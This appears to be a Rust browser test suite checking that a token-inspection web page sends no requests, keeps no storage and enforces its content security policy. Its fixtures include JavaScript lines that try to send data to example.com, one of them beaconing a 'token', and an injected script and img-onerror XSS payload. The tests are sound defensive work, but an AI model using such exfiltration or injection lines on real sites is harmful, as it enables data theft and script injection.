//! After loading, the page talks to nobody, keeps nothing, and could not do otherwise.

use browser_tests::browser::Browser;
use browser_tests::built::built;
use browser_tests::proxy::Route;
use browser_tests::tokens::with_groups;
use serde_json::{Value, json};

/// An address that the server does not know. When the proxy has seen the browser ask for it, it
/// has also seen whatever was asked for before.
const LAST: &str = "the-last-request";

#[test]
fn after_loading_nothing_is_asked_for_and_nothing_is_kept() {
    let browser = Browser::start();
    browser.open();
    let loading = browser.take_requests();
    assert!(
        loading.len() >= 4,
        "the proxy sees what the browser does: {loading:?}"
    );
    for request in loading {
        assert!(
            request.starts_with(&format!("GET {}", built().url)),
            "{request}"
        );
    }

    use_everything(&browser);
    // Nothing is put off either.
    browser.let_pass(600);
    assert_eq!(
        browser.run(
            "return document.querySelector('#sealed').dataset.seal",
            json!([])
        ),
        "silent"
    );
    browser.click("#wipe");
    browser.wait_headline("");
    assert_eq!(kept(&browser), json!([0, 0, 0, 0, 0, ""]));
    let console = browser.take_console();
    assert_only_the_last(&browser, &built().url);
    assert_eq!(console, Vec::<String>::new());
}

/// Both through the headers of a good host and through the page's own `<meta>` alone.
#[test]
fn the_policy_is_in_force() {
    let simple = "http://simple.test/";
    let good = Route::new(&built().url, &built().url);
    let routes = vec![
        good.changed(infect),
        Route::new(simple, &built().url)
            .from_simple_host()
            .changed(infect),
    ];
    let browser = Browser::with_routes(routes);
    for url in [&*built().url, simple] {
        browser.open_at(url);
        let console = browser.take_console().join("\n");
        assert!(console.contains("inline script"), "{url}: {console}");
        assert!(console.contains("inline event handler"), "{url}: {console}");
        assert_eq!(
            browser.run("return window.infected === undefined", json!([])),
            true,
            "{url}"
        );
        browser.take_requests();
        for (attempt, directive) in ATTEMPTS {
            assert_eq!(
                violations(&browser, attempt),
                json!([directive]),
                "{url}: {attempt}"
            );
        }
        assert_only_the_last(&browser, url);
        browser.take_console();
    }
}

#[test]
fn a_damaged_program_does_not_start() {
    let damaged = Route::new(&built().url, &built().url).changed(|path, mut body| {
        if path.ends_with(".wasm") {
            body.push(0);
        }
        body
    });
    let browser = Browser::with_routes(vec![damaged]);
    browser.go(&built().url);
    browser.wait_contains("#app", "Audlens could not start");
}

/// What a page could do to tell others, and the directive that forbids it.
///
/// For a frame and a form, Chromium opens a connection before it asks the policy, and sends nothing
/// over it. To a proxy that shows only with https.
const ATTEMPTS: [(&str, &str); 16] = [
    (
        "fetch('https://example.com/fetch').catch(() => {})",
        "connect-src",
    ),
    (
        "navigator.sendBeacon('https://example.com/beacon', 'token')",
        "connect-src",
    ),
    (
        "const old = new XMLHttpRequest(); old.open('GET', 'https://example.com/'); old.send()",
        "connect-src",
    ),
    ("new WebSocket('wss://example.com/socket')", "connect-src"),
    (
        "new EventSource('https://example.com/events')",
        "connect-src",
    ),
    ("new Image().src = 'https://example.com/image'", "img-src"),
    ("new Audio('https://example.com/sound').load()", "media-src"),
    (
        "new FontFace('f', 'url(https://example.com/font)').load().catch(() => {})",
        "font-src",
    ),
    (
        "add('link', { rel: 'stylesheet', href: 'https://example.com/style' })",
        "style-src-elem",
    ),
    (
        "add('iframe', { src: 'http://example.com/frame' })",
        "frame-src",
    ),
    (
        "add('form', { action: 'http://example.com/form', method: 'post' }).submit()",
        "form-action",
    ),
    ("add('base', { href: 'https://example.com/' })", "base-uri"),
    (
        "document.body.innerHTML = '<p>markup</p>'",
        "require-trusted-types-for",
    ),
    (
        "add('script', { textContent: 'window.infected = true' })",
        "require-trusted-types-for",
    ),
    (
        "document.body.setAttribute('style', 'color: red')",
        "style-src-attr",
    ),
    (
        "add('link', { rel: 'prefetch', href: 'https://example.com/prefetch' })",
        "default-src",
    ),
];

/// Makes an attempt and gives the directives that stopped it.
fn violations(browser: &Browser, attempt: &str) -> Value {
    let script = format!(
        "const add = (name, attributes) => {{
            const element = Object.assign(document.createElement(name), attributes);
            document.head.append(element);
            return element;
        }};
        return new Promise((resolve) => {{
            document.addEventListener('securitypolicyviolation', (event) => {{
                resolve([event.effectiveDirective]);
            }}, {{ once: true }});
            try {{ {attempt} }} catch {{ /* the event tells more */ }}
        }})"
    );
    browser.run(&script, json!([]))
}

/// Puts what an attacker would into the page.
fn infect(path: &str, body: Vec<u8>) -> Vec<u8> {
    let text = String::from_utf8(body);
    match text {
        Ok(html) if path == "/" => html
            .replace(
                "<body>",
                "<body><script>window.infected = true</script><img src=x onerror=\"window.infected = true\">",
            )
            .into_bytes(),
        Ok(text) => text.into_bytes(),
        Err(binary) => binary.into_bytes(),
    }
}

/// Does a little of everything that the page offers.
fn use_everything(browser: &Browser) {
    browser.paste_token(&with_groups("https://issuer.example", 3));
    browser.wait_gate("readable", "passed");
    browser.choose("#validator", "rfc7519");
    browser.replace("[data-setting=Audiences]", "api://orders/");
    browser.wait_gate("audience", "failed");
    browser.copy_with("#first-fix button[data-copy]");
    for tab in ["decoded", "claims", "why"] {
        browser.open_tab(tab);
    }
    browser.replace("#as-of", "1795348800");
    browser.click("#theme");
    browser.paste_token("no token at all");
    browser.wait_gate("readable", "failed");
    browser.click("#wipe");
    browser.click("#examples [data-example=trailing-slash]");
    browser.wait_gate("audience", "failed");
}

/// Everything that a browser could keep of a page for later.
fn kept(browser: &Browser) -> Value {
    browser.run(
        "return [
            localStorage.length,
            sessionStorage.length,
            (await indexedDB.databases()).length,
            (await caches.keys()).length,
            (await navigator.serviceWorker.getRegistrations()).length,
            document.cookie,
        ]",
        json!([]),
    )
}

/// Leaves the page, which is the last chance to send something, and asserts that nothing was asked
/// for before.
#[track_caller]
pub(crate) fn assert_only_the_last(browser: &Browser, url: &str) {
    let last = format!("{url}{LAST}");
    browser.go(&last);
    let requests = browser.take_requests();
    assert_eq!(
        requests.first(),
        Some(&format!("GET {last}")),
        "{requests:?}"
    );
}
